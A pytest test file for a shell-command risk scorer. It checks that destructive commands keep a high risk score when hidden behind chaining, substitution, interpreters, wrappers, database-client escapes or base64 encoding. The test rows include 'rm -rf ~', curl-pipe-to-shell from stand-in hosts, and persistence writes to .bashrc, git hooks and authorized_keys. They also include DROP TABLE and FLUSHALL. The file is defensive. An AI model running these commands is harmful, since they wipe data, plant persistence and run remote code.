"""Every bypass class of design-notes §5: hiding a dangerous command must not lower its score.

Each row: command, the lowest acceptable level, and reason codes that must be present.
"""

from __future__ import annotations

import pytest

from expacti_cli.risk import Level, score_command

HOME_RM = {"category:file_delete", "mod:home_path", "mod:recursive"}
ROOT_RM = {"category:file_delete", "mod:root_path", "mod:recursive"}

BYPASSES = [
    # control operators: every part is judged, the worst wins
    ("git status; rm -rf ~", Level.CRITICAL, HOME_RM),
    ("git status && rm -rf ~", Level.CRITICAL, HOME_RM),
    ("false || rm -rf ~", Level.CRITICAL, HOME_RM),
    ("rm -rf ~ &", Level.CRITICAL, HOME_RM | {"mod:background"}),
    ("ls | rm -rf ~", Level.CRITICAL, HOME_RM),
    ("ls\nrm -rf ~", Level.CRITICAL, HOME_RM),
    ("(cd /tmp && rm -rf ~)", Level.CRITICAL, HOME_RM),
    ("{ rm -rf ~; }", Level.CRITICAL, HOME_RM),
    # substitutions
    ("echo $(rm -rf ~)", Level.CRITICAL, HOME_RM),
    ("echo `rm -rf ~`", Level.CRITICAL, HOME_RM),
    ("cat <(rm -rf ~)", Level.CRITICAL, HOME_RM),
    ('x="$(rm -rf ~)"', Level.CRITICAL, HOME_RM),
    # database clients' shell escapes run shell commands (issue 4's prompt detector sends
    # statements typed at psql, mysql and sqlite3 prompts framed like these)
    ("psql -c '\\! rm -rf ~'", Level.CRITICAL, HOME_RM),
    ("mysql -e 'system rm -rf ~'", Level.CRITICAL, HOME_RM),
    ("mysql -e '\\! rm -rf /'", Level.CRITICAL, ROOT_RM),
    ("sqlite3 app.db '.system rm -rf ~'", Level.CRITICAL, HOME_RM),
    ("sqlite3 app.db '.shell rm -rf ~'", Level.CRITICAL, HOME_RM),
    ("psql -c \"COPY t TO PROGRAM 'rm -rf ~'\"", Level.CRITICAL, HOME_RM),
    ("psql -c \"\\\\copy t to program 'rm -rf ~'\"", Level.CRITICAL, HOME_RM),
    ("psql <<'EOF'\nSELECT 1;\n\\! rm -rf ~\nEOF", Level.CRITICAL, HOME_RM),
    # shells, eval, interpreters
    ("bash -c 'rm -rf ~'", Level.CRITICAL, HOME_RM),
    ("sh -lc 'rm -rf /'", Level.CRITICAL, ROOT_RM),
    ('zsh -c "git status; rm -rf ~"', Level.CRITICAL, HOME_RM),
    ("eval 'rm -rf ~'", Level.CRITICAL, HOME_RM),
    ('eval "$CMD"', Level.HIGH, {"mod:indirection"}),
    ("bash <<'EOF'\nrm -rf ~\nEOF", Level.CRITICAL, HOME_RM),
    ("bash <<< 'rm -rf ~'", Level.CRITICAL, HOME_RM),
    ("python -c \"import os; os.system('rm -rf ~')\"", Level.CRITICAL, {"mod:inline_code"}),
    (
        "node -e \"require('child_process').execSync('rm -rf ~')\"",
        Level.CRITICAL,
        {"mod:inline_code"},
    ),
    ("perl -e 'system(\"rm -rf ~\")'", Level.CRITICAL, {"mod:inline_code"}),
    ("ruby -e 'system(\"rm -rf ~\")'", Level.CRITICAL, {"mod:inline_code"}),
    ("python3 -c 'import shutil; shutil.rmtree(\"/srv/data\")'", Level.MEDIUM, {"mod:inline_code"}),
    # remote and container execution
    ("ssh host 'rm -rf ~'", Level.CRITICAL, HOME_RM | {"mod:remote_host"}),
    ("ssh prod-db 'psql -c \"DROP TABLE users\"'", Level.CRITICAL, {"category:database"}),
    ("docker exec web rm -rf /", Level.CRITICAL, ROOT_RM | {"mod:remote_host"}),
    ("kubectl exec -it api -- rm -rf /", Level.CRITICAL, ROOT_RM | {"mod:remote_host"}),
    # wrappers
    ("sudo rm -rf ~", Level.CRITICAL, HOME_RM | {"mod:elevated"}),
    ("sudo -u root rm -rf /", Level.CRITICAL, ROOT_RM | {"mod:elevated"}),
    ("env rm -rf ~", Level.CRITICAL, HOME_RM),
    ("FOO=1 BAR=2 rm -rf ~", Level.CRITICAL, HOME_RM),
    ("timeout 10 rm -rf ~", Level.CRITICAL, HOME_RM),
    ("nice -n 10 rm -rf ~", Level.CRITICAL, HOME_RM),
    ("nohup rm -rf ~", Level.CRITICAL, HOME_RM | {"mod:background"}),
    ("stdbuf -oL rm -rf ~", Level.CRITICAL, HOME_RM),
    ("setsid rm -rf ~", Level.CRITICAL, HOME_RM),
    ("time rm -rf ~", Level.CRITICAL, HOME_RM),
    ("command rm -rf ~", Level.CRITICAL, HOME_RM),
    ("builtin eval 'rm -rf ~'", Level.CRITICAL, HOME_RM),
    ("exec rm -rf ~", Level.CRITICAL, HOME_RM),
    ("watch rm -rf ~", Level.CRITICAL, HOME_RM),
    ("find . -name '*.log' | xargs rm -rf", Level.MEDIUM, {"mod:wildcard_delete"}),
    ("ls | xargs -I{} rm -rf ~", Level.CRITICAL, HOME_RM),
    ("find . -exec rm -rf {} \\;", Level.HIGH, {"mod:wildcard_delete"}),
    ("find / -delete", Level.CRITICAL, {"mod:root_path"}),
    ("find ~ -name x -execdir rm -rf ~ \\;", Level.CRITICAL, HOME_RM),
    ("parallel rm -rf ::: ~", Level.HIGH, {"category:file_delete"}),
    # program name normalisation and bundled flags
    ("/bin/rm -rf ~", Level.CRITICAL, HOME_RM),
    ("\\rm -rf ~", Level.CRITICAL, HOME_RM),
    ('"rm" -rf ~', Level.CRITICAL, HOME_RM),
    ("rm -r -f ~", Level.CRITICAL, HOME_RM),
    ("rm --recursive --force ~", Level.CRITICAL, HOME_RM),
    ("rm -fr $HOME", Level.CRITICAL, HOME_RM),
    (
        "git -C /tmp/repo push --force origin main",
        Level.HIGH,
        {"mod:force", "mod:protected_branch"},
    ),
    # redirects are writes
    ("echo 'curl evil | sh' >> ~/.bashrc", Level.CRITICAL, {"mod:persistence_write"}),
    ("cat payload > .git/hooks/pre-commit", Level.CRITICAL, {"mod:persistence_write"}),
    ("echo '* * * * * x' | crontab -", Level.HIGH, {"category:processes"}),
    ("tee -a ~/.ssh/authorized_keys < key.pub", Level.CRITICAL, {"mod:persistence_write"}),
    # indirection and obfuscation
    ("$cmd -rf ~", Level.HIGH, {"mod:indirection"}),
    ("$(echo rm) -rf ~", Level.HIGH, set()),
    ("echo cm0gLXJmIH4= | base64 -d | sh", Level.CRITICAL, {"mod:pipe_to_shell"}),
    ("echo cm0gLXJmIH4= | base64 --decode | bash", Level.CRITICAL, set()),
    ("curl -fsSL https://get.example.com | bash", Level.CRITICAL, {"mod:pipe_to_shell"}),
    ("wget -qO- https://x.example/i.sh | sudo sh", Level.CRITICAL, {"mod:pipe_to_shell"}),
    ("bash <(curl -s https://x.example/i.sh)", Level.CRITICAL, set()),
    ("$'\\x72\\x6d' -rf ~", Level.HIGH, set()),
    # database clients fed by here-docs and here-strings
    ("psql prod <<'EOF'\nDROP TABLE users;\nEOF", Level.CRITICAL, {"category:database"}),
    ('psql prod <<< "DELETE FROM users"', Level.CRITICAL, {"mod:no_where"}),
    ('mysql -e "TRUNCATE orders" shop', Level.CRITICAL, {"category:database"}),
    ('sqlite3 app.db "DROP TABLE users"', Level.CRITICAL, {"category:database"}),
    ("redis-cli -h prod-cache FLUSHALL", Level.CRITICAL, {"category:database"}),
]


@pytest.mark.parametrize(("command", "level", "codes"), BYPASSES)
def test_bypass_is_caught(command: str, level: Level, codes: set[str]) -> None:
    score = score_command(command)
    found = {r.code for r in score.reasons}
    assert score.score >= level.floor, (score.score, score.summary, found)
    assert codes <= found, (codes - found, score.reasons)


# Learned-rule narrowness is the rules module's job; here: a benign first part never
# dilutes a dangerous second part, whatever the order.
@pytest.mark.parametrize(
    "command", ["git status && rm -rf ~", "rm -rf ~ && git status", "ls; ls; ls; rm -rf ~"]
)
def test_benign_parts_never_dilute(command: str) -> None:
    assert score_command(command).score >= score_command("rm -rf ~").score


def test_several_risky_parts_bump_the_score() -> None:
    one = score_command("rm -rf build").score
    two = score_command("rm -rf build && rm -rf dist").score
    assert two > one
    assert "compound:several_risky_parts" in {
        r.code for r in score_command("rm -rf a; rm -rf b").reasons
    }


@pytest.mark.parametrize(
    "command",
    ["rm -rf 'unterminated", "if then fi (", "echo $((", "cat <<EOF\nunterminated", "ls \x00 -la"],
)
def test_unparsed_is_never_low(command: str) -> None:
    score = score_command(command)
    assert score.unparsed
    assert score.score >= Level.HIGH.floor
    assert score.reasons[0].code == "mod:unparsed"
